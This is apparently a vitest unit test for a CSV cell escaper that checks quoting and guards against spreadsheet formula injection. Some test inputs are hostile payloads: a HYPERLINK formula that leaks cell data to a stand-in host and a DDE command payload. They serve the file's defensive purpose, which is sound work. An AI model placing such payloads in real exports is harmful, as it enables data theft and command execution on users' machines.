import { describe, expect, it } from 'vitest'

import { toCsvCell } from './csv-cell'

describe('toCsvCell', () => {
  it.each([
    ['plain text', 'Front desk', 'Front desk'],
    ['empty string', '', ''],
    ['digits', '4155552671', '4155552671'],
    ['E.164 number is left as it is: + and digits cannot run', '+14155552671', '+14155552671'],
    ['plus then a space is guarded', '+1 415', "'+1 415"],
    ['plus then a letter is guarded', '+A1', "'+A1"],
    ['plus then a digit then an operator is guarded', '+1+cmd', "'+1+cmd"],
    ['plus alone is guarded', '+', "'+"],
    ['national number', '(415) 555-2671', '(415) 555-2671'],
    [
      'HYPERLINK formula',
      '=HYPERLINK("http://evil.test?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"`,
    ],
    ['DDE payload', "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['arithmetic', '-2+3', "'-2+3"],
    ['at-function', '@SUM(A1)', "'@SUM(A1)"],
    ['leading tab', '\t=1', "'\t=1"],
    ['leading carriage return', '\r=1', `"'\r=1"`],
    ['equals alone', '=', "'="],
    ['formula char later is harmless', 'a=1', 'a=1'],
    ['single quote already there', "'=1", "'=1"],
    ['comma', 'Smith, John', '"Smith, John"'],
    ['quotes', 'The "Main" line', '"The ""Main"" line"'],
    ['only a quote', '"', '""""'],
    ['line feed', 'line 1\nline 2', '"line 1\nline 2"'],
    ['CRLF', 'line 1\r\nline 2', '"line 1\r\nline 2"'],
    ['leading space', ' padded', '" padded"'],
    ['trailing space', 'padded ', '"padded "'],
    ['emoji', 'Office 📞', 'Office 📞'],
    ['accents', 'José', 'José'],
    ['quoted formula with comma', '=1+2,3', `"'=1+2,3"`],
  ])('%s: %j → %j', (_label, value, expected) => {
    expect(toCsvCell(value)).toBe(expected)
  })
})
